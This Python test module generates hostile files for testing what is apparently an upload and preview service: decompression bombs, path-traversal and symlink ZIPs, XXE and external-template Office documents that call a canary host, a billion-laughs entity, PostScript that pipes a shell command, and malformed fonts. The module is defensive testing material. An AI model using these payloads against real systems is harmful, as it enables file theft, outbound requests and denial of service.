"""What has no decoder here is kept as it is, whatever is in it: nothing is unpacked, parsed or run. And fonts.

Archives and office documents that harm whoever opens them; PostScript, text and programs. Where no program draws
documents, those are not looked into but for a picture in them.
"""

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

from tests.corpus import fonts
from tests.corpus.hostile.case import KEPT, SHOWN, Canary, Hostile
from tests.corpus.hostile.pixels import packed_zeros

_RELATIONS = "http://schemas.openxmlformats.org"


def cases(canary: Canary) -> Iterator[Hostile]:
    """Each is uploaded, delivered, and not looked into; but for fonts, and for a picture in a document."""
    for name, data in _packed():
        yield Hostile("archives and documents", name, data, KEPT)
    for name, data in documents(canary):
        yield Hostile("archives and documents", name, data, "no_libreoffice")
    for name, data in printed(canary):
        yield Hostile("archives and documents", name, data, "no_ghostscript")
    for name, data in _disguised(canary):
        yield Hostile("archives and documents", name, data, "no_preview_inside" if "InDesign" in name else KEPT)
    for name, data in _fonts():
        yield Hostile("fonts", name, data, "broken_file")
    layered = fonts.sfnt(fonts.coloured(fonts.tables(), (9, 9, 9), 65_535))
    yield Hostile("fonts", "a font whose letters have 65,535 layers each", layered, "timed_out")
    for case in fonts.bad():
        yield Hostile("fonts", case.name, case.make(), case.code.rstrip("|") + (f"|{SHOWN}" * case.code.endswith("|")))


def zipped(members: Mapping[str, bytes], *, stored: bool = False) -> bytes:
    """A ZIP file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def _packed() -> Iterator[tuple[str, bytes]]:
    bomb = gzip.compress(packed_zeros(1 << 26))
    yield "a gzip of a gzip", gzip.compress(bomb)
    nested = zipped({"a": bytes(1 << 20)})
    for _ in range(6):
        nested = zipped({f"{number}.zip": nested for number in range(10)})
    yield "a ZIP of a million ZIPs", nested
    yield "a ZIP that climbs", zipped({"../../../../etc/cron.d/a": b"x", "/etc/passwd": b"x", "C:\\a": b"x"})
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "a ZIP with a link", file.getvalue()
    plain = bytearray(zipped({"a": b"x"}))
    end = plain.index(b"PK\5\6")
    struct.pack_into("<HHII", plain, end + 8, 65_535, 65_535, 2**32 - 1, 2**32 - 1)
    yield "a ZIP whose directory is elsewhere", bytes(plain)
    yield "a ZIP of 20,000 names", zipped({f"n{number}": b"" for number in range(20_000)}, stored=True)
    yield "a 7z of 2^64", b"7z\xbc\xaf\x27\x1c\0\4" + b"\xff" * 24


def documents(canary: Canary) -> Iterator[tuple[str, bytes]]:
    """Of offices."""
    http, file = f"http://{canary.host}/a", f"file://{canary.path('canary.txt')}"
    for name, part in (
        ("Word", "word/document.xml"),
        ("PowerPoint", "ppt/presentation.xml"),
        ("Excel", "xl/workbook.xml"),
    ):
        folder = part.partition("/")[0]
        for how, there in (("http", http), ("a file", file), ("UNC", f"\\\\{canary.host}\\a")):
            entity = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{there}">]><x>&s;</x>'
            yield f"{name}: an entity at {how}", zipped({part: entity.encode()}, stored=True)
            target = (
                f'<Relationship Id="r1" Type="{_RELATIONS}/attachedTemplate" Target="{there}" TargetMode="External"/>'
            )
            relations = f'<Relationships xmlns="{_RELATIONS}/package/2006/relationships">{target}</Relationships>'
            yield f"{name}: a template at {how}", zipped({f"{folder}/_rels/a.rels": relations.encode()}, stored=True)
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "laugh"}">' for n in range(10))
    yield "Word: a billion laughs", zipped({"word/document.xml": f"<!DOCTYPE x [{laughs}]><x>&e9;</x>".encode()})
    yield "Excel: a sheet of 16 MB", zipped({"xl/worksheets/sheet1.xml": bytes(1 << 24)})
    content = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{file}">]><x>&s;</x>'.encode()
    kind = b"application/vnd.oasis.opendocument.text"
    yield "OpenDocument: an entity", zipped({"mimetype": kind, "content.xml": content}, stored=True)
    yield "an old office document of loops", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\1\0\0\0" * 200


def printed(canary: Canary) -> Iterator[tuple[str, bytes]]:
    """Programs in PostScript."""
    there = canary.path("canary.txt")
    yield "PostScript that runs a program", f"%!PS\n(%pipe%cat {there}) (r) file 99 string readstring pop =\n".encode()
    yield "PostScript that reads a file", f"%!PS\n({there}) (r) file 999 string readstring pop show showpage\n".encode()
    yield "PostScript without end", b"%!PS\n{ } loop\n"


def _disguised(canary: Canary) -> Iterator[tuple[str, bytes]]:
    there = canary.path("canary.txt")
    yield "an InDesign document of nothing", bytes.fromhex("0606edf5d81d46e5bd31efe7fe74b71d") + bytes(100)
    page = f"<html><script src='http://{canary.host}/a.js'></script><img src='file://{there}'></html>"
    yield "a page as a picture", page.encode()
    yield "a program as a picture", b"MZ" + bytes(200)
    yield "a program of Linux as a picture", b"\x7fELF" + bytes(200)
    yield "a script as a film", b"#!/bin/sh\0\ncat " + there.encode()
    yield "nothing at all", b""


def _fonts() -> Iterator[tuple[str, bytes]]:
    tables = b"".join(struct.pack(">4sIII", b"glyf", 0, 12, 2**32 - 1) for _ in range(65))
    yield "a font whose tables are elsewhere", b"\0\1\0\0" + struct.pack(">HHHH", 65, 0, 0, 0) + tables
    yield "a font of 65,535 tables", b"OTTO" + b"\xff" * 8 + tables
    yield "a web font that unpacks to 2^32", b"wOF2OTTO" + b"\xff" * 40
